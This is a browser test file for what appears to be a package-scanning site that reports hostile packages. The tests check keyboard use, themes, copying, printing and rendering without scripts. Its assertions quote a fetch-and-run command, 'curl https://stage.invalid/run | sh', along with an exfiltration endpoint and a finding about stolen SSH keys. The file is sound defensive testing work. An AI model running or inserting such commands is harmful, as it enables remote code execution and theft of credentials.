"""Pages in a real browser: the keyboard, themes, copying, printing, and no script at all."""

from tests.browser.conftest import OpenPage, Seeded
from tests.browser.offering import HONEST, HOSTILE

_HOSTILE_FILE = "tidewater_utils-0.9.1.tar.gz"


class TestUse:
    """Keyboard, themes, copying, and no script at all."""

    def test_a_key_leads_to_the_search_and_the_first_link_past_the_navigation(
        self, open_page: OpenPage
    ) -> None:
        page = open_page("/")
        page.keyboard.press("Tab")
        assert page.evaluate("document.activeElement.textContent") == "Skip to the content"
        page.keyboard.press("Enter")
        assert page.evaluate("document.activeElement.id") == "main"
        page.keyboard.press("/")
        page.keyboard.type("harbour")
        page.keyboard.press("Enter")
        page.wait_for_url("**/search?q=harbour")
        page.get_by_role("link", name=HONEST).click()
        page.wait_for_url(f"**/projects/{HONEST}")

    def test_a_theme_that_was_chosen_stays(self, open_page: OpenPage) -> None:
        page = open_page("/", color_scheme="light")
        before = page.evaluate("getComputedStyle(document.body).backgroundColor")
        page.get_by_role("button", name="Dark theme").click()
        page.goto("/search")
        assert page.evaluate("document.documentElement.dataset.theme") == "dark"
        assert page.evaluate("getComputedStyle(document.body).backgroundColor") != before

    def test_a_line_is_copied(self, open_page: OpenPage, seeded: Seeded) -> None:
        page = open_page("/", permissions=["clipboard-read", "clipboard-write"])
        page.locator("[data-copy=use-pip]").click()
        page.locator("#said", has_text="Copied").wait_for(state="attached")
        copied = page.evaluate("navigator.clipboard.readText()")
        assert copied == f"pip config set global.index-url {seeded.gate.simple}"

    def test_everything_is_there_without_a_script(
        self, open_page: OpenPage, seeded: Seeded
    ) -> None:
        page = open_page(seeded.verdict(_HOSTILE_FILE), java_script_enabled=False)
        assert "Secrets of the user are sent away" in page.inner_text("main")
        page.get_by_text("Layer 1, peeled out of it").click()
        assert page.get_by_text("Layer 2, peeled out of it").is_visible()
        assert page.get_by_role("img", name="Timeline of what happened").is_visible()
        assert "an SSH private key" in page.inner_text("main")

    def test_lines_around_a_finding_are_one_click_away(
        self, open_page: OpenPage, seeded: Seeded
    ) -> None:
        page = open_page(seeded.verdict(_HOSTILE_FILE))
        button = page.get_by_role("button", name="the lines around line 14").first
        button.click()
        page.locator(".finding .marked").get_by_text("collector.invalid/drop").wait_for()
        assert page.locator(".finding .line[data-number]").count() == 11
        button.click()
        page.locator(".finding .marked").wait_for(state="detached")

    def test_what_is_folded_is_printed(self, open_page: OpenPage, seeded: Seeded) -> None:
        page = open_page(seeded.verdict(_HOSTILE_FILE))
        page.evaluate("dispatchEvent(new Event('beforeprint'))")
        page.emulate_media(media="print")
        assert page.get_by_text("curl https://stage.invalid/run | sh").first.is_visible()
        assert not page.locator("header.top").is_visible()


def test_the_hostile_project_says_so_first(open_page: OpenPage) -> None:
    page = open_page(f"/projects/{HOSTILE}")
    assert page.get_by_text("A hidden payload is decoded and executed").first.is_visible()
